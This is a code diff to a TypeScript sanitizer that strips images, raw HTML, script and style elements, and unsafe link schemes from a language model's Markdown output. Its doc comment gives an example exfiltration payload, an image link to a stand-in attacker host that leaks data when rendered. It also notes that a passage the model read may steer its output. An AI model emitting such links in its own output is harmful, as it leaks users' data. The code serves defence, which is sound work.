@@ -2,8 +2,8 @@
  * Makes a language model's Markdown safe to hand to any client, whatever it was told by a passage:
  * - images are removed (`![pixel](https://attacker/?d=…)` would send data out as the page renders it),
  *   inline, reference-style and their definitions alike;
- * - raw HTML tags and comments are removed (`<img onerror>`, `<script>`, `<a href>`), their text is kept
- *   as plain text; an opening `<` left without its `>` (a tag cut at a sentence end) is followed by a
+ * - raw HTML tags and comments are removed (`<img onerror>`, `<a href>`), their text is kept as plain
+ *   text, except inside `<script>` and `<style>`, which go with their content (it was never text); an opening `<` left without its `>` (a tag cut at a sentence end) is followed by a
  *   space, so two pieces can never join into a tag;
  * - links whose target is not `http:` or `https:` (`javascript:`, `data:`, `vbscript:`, relative) keep
  *   their text and lose their target; `<https://…>` autolinks become the bare address.
@@ -17,6 +17,8 @@ export function sanitizeModelText(text: string): string {
       .replace(/<((?:https?):\/\/[^\s<>]+)>/gi, "$1")
       // HTML comments, CDATA, doctypes and processing instructions.
       .replace(/<!--[\s\S]*?-->|<!\[CDATA\[[\s\S]*?\]\]>|<[!?][^<>]*>/g, "")
+      // Script and style elements, content and all: their content is code, not text to show.
+      .replace(/<(script|style)\b[^<>]*>[^<]*(?:<(?!\/\1\s*>)[^<]*)*<\/\1\s*>/gi, "")
       // Tags: a name after < or </, then anything but another bracket up to >.
       .replace(/<\/?[A-Za-z][^<>]*>/g, "")
       // What remains of a tag that was cut (no closing >): "< " can never open one ("a<b" reads "a< b").
